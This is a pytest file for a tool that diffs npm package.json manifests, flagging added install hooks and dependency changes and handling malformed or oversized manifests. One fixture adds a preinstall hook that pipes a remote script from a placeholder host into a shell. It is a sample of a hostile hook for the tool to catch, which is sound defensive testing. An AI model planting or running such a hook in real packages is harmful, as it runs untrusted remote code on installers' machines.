"""The semantic package.json diff, and its robustness to hostile manifests."""

from __future__ import annotations

import json

import pytest

from reviews.inspect.manifest import MAX_MANIFEST_BYTES
from reviews.inspect.manifest_diff import EntryStatus, Section, diff_manifests


def manifest(**fields) -> bytes:
    return json.dumps({"name": "@acme/tool", "version": "1.0.0", **fields}).encode()


def test_install_hooks_are_listed_first_and_flagged():
    old = manifest(scripts={"test": "jest", "build": "tsc", "prepare": "tsc"})
    new = manifest(
        scripts={
            "test": "vitest",
            "build": "tsc",
            "postinstall": "node ./collect.js",
            "preinstall": "curl https://example.invalid/x | sh",
        }
    )

    diff = diff_manifests(old, new)

    assert [(c.key, c.status, c.is_install_hook) for c in diff.scripts] == [
        ("preinstall", EntryStatus.ADDED, True),
        ("postinstall", EntryStatus.ADDED, True),
        ("prepare", EntryStatus.REMOVED, True),
        ("test", EntryStatus.CHANGED, False),
    ]
    assert [c.key for c in diff.install_hooks] == ["preinstall", "postinstall", "prepare"]
    assert diff.scripts[3].old == "jest"
    assert diff.scripts[3].new == "vitest"


def test_binding_gyp_makes_an_implicit_install_hook():
    old = manifest()
    new = manifest()

    diff = diff_manifests(old, new, new_has_binding_gyp=True)
    written = diff_manifests(
        old, manifest(scripts={"install": "node i.js"}), new_has_binding_gyp=True
    )
    opted_out = diff_manifests(old, manifest(gypfile=False), new_has_binding_gyp=True)

    (hook,) = diff.install_hooks
    assert (hook.key, hook.new, hook.implicit) == ("install", "node-gyp rebuild", True)
    assert written.install_hooks[0].new == "node i.js"
    assert not written.install_hooks[0].implicit
    assert opted_out.install_hooks == ()


def test_a_preinstall_script_stops_the_implicit_install_hook_like_npm():
    # npm adds `node-gyp rebuild` only when neither `install` nor `preinstall` is written.
    diff = diff_manifests(
        manifest(), manifest(scripts={"preinstall": "node pre.js"}), new_has_binding_gyp=True
    )

    assert [(c.key, c.new, c.implicit) for c in diff.install_hooks] == [
        ("preinstall", "node pre.js", False)
    ]


def test_dependencies_of_every_kind_added_removed_and_changed():
    old = manifest(
        dependencies={"left-pad": "^1.0.0", "lodash": "^4.17.0"},
        devDependencies={"jest": "^29"},
        optionalDependencies={"fsevents": "^2"},
    )
    new = manifest(
        dependencies={"left-pad": "^1.3.0", "axios": "^1.7.0"},
        devDependencies={"jest": "^29"},
        peerDependencies={"react": ">=18"},
        bundleDependencies=["left-pad"],
    )

    diff = diff_manifests(old, new)

    assert [(c.section, c.key, c.status, c.old, c.new) for c in diff.dependencies] == [
        (Section.DEPENDENCIES, "axios", EntryStatus.ADDED, None, "^1.7.0"),
        (Section.DEPENDENCIES, "left-pad", EntryStatus.CHANGED, "^1.0.0", "^1.3.0"),
        (Section.DEPENDENCIES, "lodash", EntryStatus.REMOVED, "^4.17.0", None),
        (Section.PEER_DEPENDENCIES, "react", EntryStatus.ADDED, None, ">=18"),
        (Section.OPTIONAL_DEPENDENCIES, "fsevents", EntryStatus.REMOVED, "^2", None),
        (Section.BUNDLE_DEPENDENCIES, "left-pad", EntryStatus.ADDED, None, "bundled"),
    ]


def test_bundled_dependencies_spelling_and_true_mean_the_same():
    old = manifest(dependencies={"a": "1", "b": "2"})
    new = manifest(dependencies={"a": "1", "b": "2"}, bundledDependencies=True)

    diff = diff_manifests(old, new)

    assert [(c.section, c.key) for c in diff.dependencies] == [
        (Section.BUNDLE_DEPENDENCIES, "a"),
        (Section.BUNDLE_DEPENDENCIES, "b"),
    ]


def test_bin_as_a_string_is_named_after_the_unscoped_package():
    old = manifest(bin="./cli.js")
    new = manifest(bin={"tool": "./cli.js", "tool-admin": "./admin.js"})

    diff = diff_manifests(old, new)

    assert [(c.key, c.status, c.new) for c in diff.bin] == [
        ("tool-admin", EntryStatus.ADDED, "./admin.js")
    ]


def test_bin_as_a_list_names_each_command_after_its_file_like_npm():
    # npm normalises ["./bin/tool.js", "lib/helper"] to {"tool.js": ..., "helper": ...}.
    old = manifest(bin=["./bin/tool.js"])
    new = manifest(bin=["./bin/tool.js", "lib/helper", ""])

    diff = diff_manifests(old, new)

    assert [(c.key, c.status, c.new) for c in diff.bin] == [
        ("helper", EntryStatus.ADDED, "lib/helper")
    ]
    assert diff.problems == ()
    odd = diff_manifests(old, manifest(bin=["./bin/tool.js", 42]))
    assert odd.bin == ()
    assert any("`bin`" in text and "not text" in text for text in odd.problems), odd.problems


def test_entry_points_files_engines_os_and_cpu():
    old = manifest(
        main="index.js",
        exports={".": {"import": "./esm.js", "require": "./cjs.js"}},
        files=["dist"],
        engines={"node": ">=18"},
        os=["linux"],
    )
    new = manifest(
        main="index.js",
        module="esm.js",
        exports={".": {"require": "./cjs.js", "import": "./esm.js"}},
        files=["dist", "scripts"],
        engines={"node": ">=20", "npm": ">=10"},
        cpu=["x64"],
    )

    diff = diff_manifests(old, new)

    assert [(c.key, c.status) for c in diff.fields] == [
        ("module", EntryStatus.ADDED),
        ("exports", EntryStatus.CHANGED),  # condition order matters to resolution
        ("files", EntryStatus.CHANGED),
        ("os", EntryStatus.REMOVED),
        ("cpu", EntryStatus.ADDED),
    ]
    assert diff.fields[2].new == '["dist","scripts"]'
    assert [(c.key, c.old, c.new) for c in diff.engines] == [
        ("node", ">=18", ">=20"),
        ("npm", None, ">=10"),
    ]


def test_a_first_release_lists_everything_as_added():
    diff = diff_manifests(
        None, manifest(scripts={"install": "x"}, dependencies={"a": "1"}), first_release=True
    )

    assert diff.problems == ()
    assert [c.status for c in diff.all_changes()] == [EntryStatus.ADDED, EntryStatus.ADDED]


def test_no_changes_means_nothing_listed():
    same = manifest(scripts={"test": "x"}, dependencies={"a": "1"})

    diff = diff_manifests(same, same)

    assert not diff.has_changes
    assert diff.problems == ()


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (b"[1, 2, 3]", "not a JSON object"),
        (b'"just a string"', "not a JSON object"),
        (b"{not json", "not valid JSON"),
        (b'{"a": NaN}', "not valid JSON"),
        (b'{"n": ' + b"9" * 5000 + b"}", "not valid JSON"),
        (b"\xff\xfe{}", "not UTF-8"),
        (b"[" * 100_000 + b"]" * 100_000, "nests too deeply to read"),
        (b" " * (MAX_MANIFEST_BYTES + 1), "over the"),
        (None, "missing"),
    ],
)
def test_malformed_manifests_become_problems_not_exceptions(data, problem):
    diff = diff_manifests(manifest(scripts={"test": "x"}), data)

    assert any(problem in text for text in diff.problems), diff.problems
    assert [c.status for c in diff.scripts] == [EntryStatus.REMOVED]


def test_wrong_types_inside_a_manifest_are_problems():
    new = json.dumps(
        {
            "scripts": ["not", "an", "object"],
            "dependencies": {"a": 1, "b": {"nested": True}},
            "bin": 42,
            "bundleDependencies": "yes",
        }
    ).encode()

    diff = diff_manifests(manifest(), new)

    assert diff.scripts == ()
    assert [(c.key, c.new) for c in diff.dependencies] == [("a", "1"), ("b", '{"nested":true}')]
    assert diff.bin == ()
    text = " ".join(diff.problems)
    assert "`scripts` in the staged package.json is not an object" in text
    assert "values that are not text: a, b" in text
    assert "`bin`" in text
    assert "`bundleDependencies`" in text


def test_huge_values_are_cut_for_display_but_compared_whole():
    long_script = "node -e '" + "x" * 100_000 + "'"
    diff = diff_manifests(
        manifest(scripts={"postinstall": long_script}),
        manifest(scripts={"postinstall": long_script + " "}),
    )

    (change,) = diff.scripts
    assert change.status is EntryStatus.CHANGED
    assert change.new is not None
    assert len(change.new) < 2_100
    assert "more characters" in change.new


def test_thousands_of_dependencies_are_bounded():
    deps = {f"dep-{i}": "1.0.0" for i in range(5_000)}

    diff = diff_manifests(manifest(), manifest(dependencies=deps))

    assert len(diff.dependencies) == 2_000
    assert any("More than 2,000 changes" in p for p in diff.problems)


def test_problems_name_the_side_they_come_from():
    both = diff_manifests(b"{not json", b"[1]")
    baseline_only = diff_manifests(b"{not json", manifest())

    assert len(both.problems) == 2
    assert both.problems[0].startswith("The baseline package.json")
    assert both.problems[1].startswith("The staged package.json")
    assert both.staged_unreadable == both.problems[1]
    assert baseline_only.problems[0].startswith("The baseline package.json")
    assert baseline_only.staged_unreadable == ""


def test_a_missing_baseline_is_a_problem_unless_this_is_the_first_release():
    new = manifest(scripts={"postinstall": "node x.js"})

    later = diff_manifests(None, new)
    first = diff_manifests(None, new, first_release=True)

    assert any("baseline" in text and "missing" in text for text in later.problems)
    assert first.problems == ()
    assert [c.key for c in first.install_hooks] == ["postinstall"]


def test_odd_script_values_are_named_with_their_side():
    diff = diff_manifests(manifest(scripts={"build": 1}), manifest(scripts={"test": ["x"]}))

    assert diff.problems == (
        "`scripts` in the baseline package.json has values that are not text: build.",
        "`scripts` in the staged package.json has values that are not text: test.",
    )


def test_values_are_shown_compact_and_unescaped_and_cut_at_the_limit():
    limit = "x" * 2_000
    over = "y" * 2_001
    diff = diff_manifests(
        manifest(),
        manifest(
            dependencies={"a": limit, "b": over},
            engines={"node": {"range": "é ≥ 18", "n": [1, 2]}},
        ),
    )

    shown = {c.key: c.new for c in diff.all_changes()}
    assert shown["a"] == limit
    assert shown["b"] == "y" * 2_000 + "… (1 more characters)"
    assert shown["node"] == '{"range":"é ≥ 18","n":[1,2]}'


def test_a_written_install_script_is_never_called_implicit():
    diff = diff_manifests(manifest(), manifest(scripts={"install": "node i.js"}))

    (hook,) = diff.install_hooks
    assert (hook.key, hook.new, hook.implicit) == ("install", "node i.js", False)


def test_directories_bin_links_every_file_of_the_folder():
    diff = diff_manifests(manifest(), manifest(directories={"bin": "./tools"}))

    assert [(c.key, c.status, c.new) for c in diff.bin] == [
        ("(every file in directories.bin)", EntryStatus.ADDED, "./tools")
    ]
    assert diff_manifests(manifest(), manifest(directories={"lib": "x"})).bin == ()


def test_bin_as_a_string_without_a_package_name_is_still_shown():
    nameless = json.dumps({"version": "1.0.0", "bin": "./cli.js"}).encode()

    diff = diff_manifests(manifest(), nameless)

    assert [(c.key, c.new) for c in diff.bin] == [("(package name)", "./cli.js")]


def test_odd_values_are_named_with_their_side_and_at_most_five_names():
    six = dict.fromkeys("abcdef", 1)
    five = dict.fromkeys("abcde", 1)

    diff = diff_manifests(manifest(bin=five), manifest(bin=six, dependencies=five))
    listed = diff_manifests(manifest(), manifest(bin=["x.js", 1]))

    assert diff.problems == (
        "`dependencies` in the staged package.json has values that are not text: a, b, c, d, e.",
        "`bin` in the baseline package.json has values that are not text: a, b, c, d, e.",
        "`bin` in the staged package.json has values that are not text: a, b, c, d, e ….",
    )
    assert listed.problems == ("`bin` in the staged package.json lists values that are not text.",)


def test_the_cut_off_is_said_in_a_sentence():
    deps = {f"dep-{i}": "1.0.0" for i in range(2_001)}

    diff = diff_manifests(manifest(), manifest(dependencies=deps))

    assert diff.problems == ("More than 2,000 changes in `dependencies`; the rest are not listed.",)


@pytest.mark.parametrize(
    ("field", "section"),
    [("scripts", Section.SCRIPTS), ("bin", Section.BIN), ("engines", Section.ENGINES)],
)
def test_every_section_is_cut_off_with_its_name_and_tags_its_changes(field, section):
    many = {f"key-{i}": "value" for i in range(2_001)}

    diff = diff_manifests(manifest(), manifest(**{field: many}))

    changes = [c for c in diff.all_changes() if c.section == section]
    assert len(changes) == 2_000
    assert diff.problems == (f"More than 2,000 changes in `{section}`; the rest are not listed.",)


def test_a_baseline_binding_gyp_hook_that_goes_away_is_shown_as_removed_and_implicit():
    diff = diff_manifests(manifest(), manifest(), old_has_binding_gyp=True)

    (hook,) = diff.install_hooks
    assert (hook.key, hook.status, hook.old, hook.implicit) == (
        "install",
        EntryStatus.REMOVED,
        "node-gyp rebuild",
        True,
    )
    assert diff_manifests(manifest(), manifest(), old_has_binding_gyp=False).scripts == ()


def test_odd_engines_and_baseline_dependencies_are_named_with_their_side():
    diff = diff_manifests(
        manifest(engines={"node": 18}, dependencies={"a": 1}),
        manifest(engines={"npm": [9]}),
    )

    assert diff.problems == (
        "`dependencies` in the baseline package.json has values that are not text: a.",
        "`engines` in the baseline package.json has values that are not text: node.",
        "`engines` in the staged package.json has values that are not text: npm.",
    )


def test_bin_as_a_string_with_a_name_that_is_not_text_is_still_shown():
    odd_name = json.dumps({"name": 5, "version": "1.0.0", "bin": "./cli.js"}).encode()

    diff = diff_manifests(manifest(), odd_name)

    assert [(c.key, c.new) for c in diff.bin] == [("(package name)", "./cli.js")]


def test_only_the_install_hook_is_marked_implicit_and_fields_are_tagged():
    diff = diff_manifests(
        manifest(),
        manifest(scripts={"postinstall": "node p.js"}, main="x.js"),
        new_has_binding_gyp=True,
    )

    assert [(c.key, c.implicit) for c in diff.scripts] == [
        ("install", True),
        ("postinstall", False),
    ]
    assert [(c.section, c.key) for c in diff.fields] == [(Section.FIELDS, "main")]
